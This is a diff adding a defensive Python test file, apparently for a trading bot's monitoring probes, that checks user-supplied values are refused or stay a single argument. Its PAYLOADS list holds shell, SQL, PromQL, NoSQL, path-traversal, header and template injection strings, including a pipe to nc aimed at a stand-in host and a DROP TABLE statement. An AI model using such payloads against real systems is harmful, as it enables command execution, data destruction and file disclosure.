@@ -1,0 +1,263 @@
+"""Nothing that a person fills in is more than a value: whatever it is, it is refused before anything is asked, or it
+arrives as one argument, one step of an address, one field of a query, one text between PromQL's quotes, one value bound
+to a statement. Never as an option, and never as a part of anything else."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator, Mapping
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from pydantic import ValidationError
+
+from bot.core.argument import KINDS, ArgumentKind
+from bot.core.check import Ask, Check, Place, Target
+from bot.core.errors import Refused
+from bot.plugs import discover
+from bot.probes.base import Probe
+from tests.probes.recording import Asked, Recorder
+from tests.probes.venues import CREDENTIALS, SYMBOLS
+from tests.probes.venues import given as asked_of_venue
+
+PROBES = discover("bot.probes", "PROBE", Probe)
+
+PAYLOADS = """
+; reboot
+&& reboot
+| nc evil 1
+$(reboot)
+`reboot`
+${IFS}reboot
+%0areboot
+> /etc/passwd
+-rf
+--help
+-oProxyCommand=reboot
+-e reboot
+a -e reboot
+a;b
+a\tb
+*
+~root
+' OR '1'='1
+1; DROP TABLE orders; --
+a' UNION SELECT 1 --
+\\'; SELECT pg_sleep(9); --
+%(x)s
+"} or vector(1) or up{a="
+\\"} or up
+a"}[5m]
+{__name__=~".+"}
+$symbol
+${symbol}
+$[*]
+$..secret
+a[?(@.b)]
+{"$where": "1"}
+$where
+{"$gt": ""}
+../../etc/passwd
+..
+.
+/etc/passwd
+a/../../b
+a/./b
+%2e%2e%2f
+a%2f..%2fb
+a\\..\\b
+?admin=1
+a?admin=1
+a&admin=1
+#x
+@evil.example
+//evil.example/x
+http://evil.example/x
+evil.example:80
+a\r\nX-Evil: 1
+a\nb
+a\u2028b
+\u0000
+a\u0000b
+\u202eab
+\uff0e\uff0e/a
+\u0661\u0662\u0663
+{order}
+{0.__class__}
+{{7*7}}
+""".strip("\n").split("\n")  # fmt: skip
+TEXTS = st.one_of(
+    st.sampled_from(PAYLOADS), st.sampled_from(PAYLOADS).map(lambda text: f"a{text}"), st.text(max_size=40)
+)
+FITTING = ["a/b/c", "BTC/USD", "A.B-C_D", "abc --force -rf", "abc  def", "a..b", "a@b.c", "user@evil.example",
+           "1-1-1-1", "deployment", "0417", "9s9s", "a.b.c.d", "AbCd-EfGh_1"]  # fmt: skip
+"""Values of some kinds with as much in them as they allow."""
+SLOW = {"deadline": None, "suppress_health_check": list(HealthCheck)}
+
+
+def reads(kind: ArgumentKind, text: str) -> str | None:
+    """The value, if it is one of that kind."""
+    try:
+        return kind.read(text)
+    except Refused:
+        return None
+
+
+# The kinds
+
+
+@pytest.mark.parametrize("kind", KINDS.values(), ids=lambda kind: kind.name)
+@settings(max_examples=150, **SLOW)
+@given(text=TEXTS)
+def test_a_kind_lets_nothing_through_that_means_anything(kind: ArgumentKind, text: str):
+    value = reads(kind, text)
+    if value is not None:
+        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9 ._/@-]*", value)
+        assert not re.search(r"(?:^|/)\.{0,2}(?:/|$)", value)
+        assert len(value) <= kind.most
+
+
+# The probes
+
+Frame = Mapping[str, Any]
+"""Parameters of a probe as a pack writes them, with `{x}` where a person's value goes."""
+_FRAMES: dict[tuple[str, str], Frame] = {
+    ("prometheus_query", "values"): {"query": 'rate(up{symbol="$s",a="b"}[5m])', "values": {"s": "{x}"}},
+    ("mongo_explain", "filter"): {"collection": "trades", "filter": {"user": "{x}", "price": {"$gt": "{x}"}}},
+    ("script", "argv"): {"argv": ["scripts/look.sh", "--id={x}", "{x}"], "changes_nothing": True},
+    ("websocket", "subscribe"): {"subscribe": [{"params": ["{x}", "{x}@ticker"]}]},
+    ("websocket", "path"): {"path": "/ws/{x}/{x}@ticker"},
+    ("http_check", "path"): {"path": "/orders/{x}/state"},
+    ("http_json", "path"): {"path": "/orders/{x}"},
+    ("gcp_resource", "called"): {"resource": "backend_service", "called": "{x}"},
+    ("log_file", "contains"): {"path": "/var/log/x.log", "contains": ["order {x}", "{x}"], "everything": True},
+}  # fmt: skip
+_QUICK = {"docker_stats": {"seconds": 0.05}, "websocket": {"listen": 0.05, "wait": 1}}
+_BY_DATABASE = {"pg_query", "pg_explain"}
+"""Their values are bound by a real PostgreSQL below."""
+
+
+def frames() -> Iterator[Any]:
+    """Every parameter of every probe that a person may fill in; of venues for each one."""
+    for name, probe in PROBES.items():
+        for parameter in probe.fills if name not in _BY_DATABASE else ():
+            if name.startswith("exchange_"):
+                for venue in CREDENTIALS:
+                    given_ = asked_of_venue(venue, symbol=SYMBOLS[venue]) if "symbol" in probe.parameters.model_fields \
+                        else asked_of_venue(venue)  # fmt: skip
+                    yield pytest.param(probe, {**given_, parameter: "{x}"}, id=f"{name}-{parameter}-{venue}")
+            else:
+                yield pytest.param(probe, frame_of(probe, parameter), id=f"{name}-{parameter}")
+
+
+def frame_of(probe: Probe, parameter: str) -> Frame:
+    """The parameters that must be given, and the value in the first of these forms that fits: alone, in a list, in a
+    mapping, as a path."""
+    fields = probe.parameters.model_fields
+    must = {name: one.examples[0] for name, one in fields.items() if one.is_required() and one.examples}
+    must |= _QUICK.get(probe.name, {})
+    if (probe.name, parameter) in _FRAMES:
+        return must | _FRAMES[probe.name, parameter]
+    for form in ("{x}", ["{x}"], {"k": "{x}"}):
+        frame = {**must, parameter: form}
+        if any(fits(probe, frame, kind.example.split(" or ")[0]) for kind in KINDS.values()):
+            return frame
+    raise AssertionError(f"{probe.name}: no value of any kind fits into {parameter}; say how in _FRAMES")
+
+
+def check_of(probe: Probe, frame: Frame, kind: ArgumentKind) -> Check:
+    return Check(
+        name="x", system="hft", title="X", probe=probe.name, parameters=frame, asks={"x": Ask(kind=kind)},
+        target=Target(id="box", kind="none", place=Place(id="bot")),
+    )  # fmt: skip
+
+
+def fits(probe: Probe, frame: Frame, value: str) -> Any:
+    """The probe's parameters with the value in their place; None where they are refused."""
+    try:
+        return probe.parameters.model_validate(check_of(probe, frame, KINDS["word"]).filled({"x": value}))
+    except (ValidationError, RecursionError):
+        return None
+
+
+Way = tuple[bool, int, str]
+"""Whether the bot looks itself, and how servers answer."""
+WAYS = st.tuples(st.booleans(), st.sampled_from([200, 404]), st.sampled_from(["{}", "[]"]))
+ALIKE = ("7341", "Abcd", "abcd", "10m", "100", "0.25")
+"""Harmless values: one of them is of the same sort as any that is let through."""
+
+
+class Desk:
+    """Looks with values, and compares what is asked for with what a harmless value asks for."""
+
+    def __init__(self) -> None:
+        self.recorder = Recorder()
+        self._usual: dict[Any, list[Any]] = {}
+
+    def look(self, probe: Probe, frame: Frame, value: str, way: Way) -> Asked | None:
+        """What is asked for with this value; None where it is refused before anything is. Fails where it is more, or
+        something else, than with a harmless one."""
+        seen = self._seen(probe, frame, value, way)
+        if seen is not None and seen.anything:
+            assert seen.shape(value) in self._expected(probe, frame, way), f"{value!r} changed what is asked: {seen}"
+        return seen
+
+    def _seen(self, probe: Probe, frame: Frame, value: str, way: Way) -> Asked | None:
+        parameters = fits(probe, frame, value)
+        by_bot, status, body = way
+        if parameters is None:
+            return None
+        return self.recorder.look(probe, parameters, by_bot=by_bot, status=status, body=body)
+
+    def _expected(self, probe: Probe, frame: Frame, way: Way) -> list[Any]:
+        key = (probe.name, json.dumps(frame), way)
+        if key not in self._usual:
+            found = ((one, self._seen(probe, frame, one, way)) for one in ALIKE)
+            self._usual[key] = [seen.shape(one) for one, seen in found if seen is not None]
+        return self._usual[key]
+
+
+@pytest.fixture(scope="module")
+def desk() -> Iterator[Desk]:
+    made = Desk()
+    yield made
+    made.recorder.close()
+
+
+def options(seen: Asked, value: str) -> list[str]:
+    """Arguments that the value made an option."""
+    return [
+        word
+        for argv in seen.argv
+        for before, word in zip(("", *argv), argv, strict=False)
+        if word.startswith("-") and word == value and before != "-e"  # after -e stands what grep looks for
+    ]
+
+
+@pytest.mark.parametrize(("probe", "frame"), [*frames()])
+@settings(max_examples=8, **SLOW)
+@given(data=st.data(), way=WAYS)
+def test_what_a_person_fills_in_stays_one_value(desk: Desk, probe: Probe, frame: Frame, data: st.DataObject, way: Way):
+    """By the kinds, as it is in a pack: of each kind whatever it lets through."""
+    kind = data.draw(st.sampled_from([*KINDS.values()]))
+    text = data.draw(st.one_of(TEXTS, st.sampled_from(FITTING), st.from_regex(kind.pattern, fullmatch=True)))
+    value = reads(kind, text)
+    if value is None or (len(value) < 4 and not value.isdecimal()):
+        return
+    seen = desk.look(probe, frame, value, way)
+    assert seen is None or [word for argv in seen.argv for word in argv if word == value and word.startswith("-")] == []
+
+
+@pytest.mark.parametrize(("probe", "frame"), [*frames()])
+@settings(max_examples=10, **SLOW)
+@given(value=TEXTS, way=WAYS)
+def test_so_does_what_no_kind_would_let_through(desk: Desk, probe: Probe, frame: Frame, value: str, way: Way):
+    """Should a pack, or a slip of ours, hand a text to a probe that no kind has read: the probe itself refuses it, or
+    keeps it one value."""
+    value = value if len(value) > 3 else f"{value}abcd"
+    seen = desk.look(probe, frame, value, way)
+    # A script's options are its pack's to write.
+    assert seen is None or probe.name == "script" or options(seen, value) == []
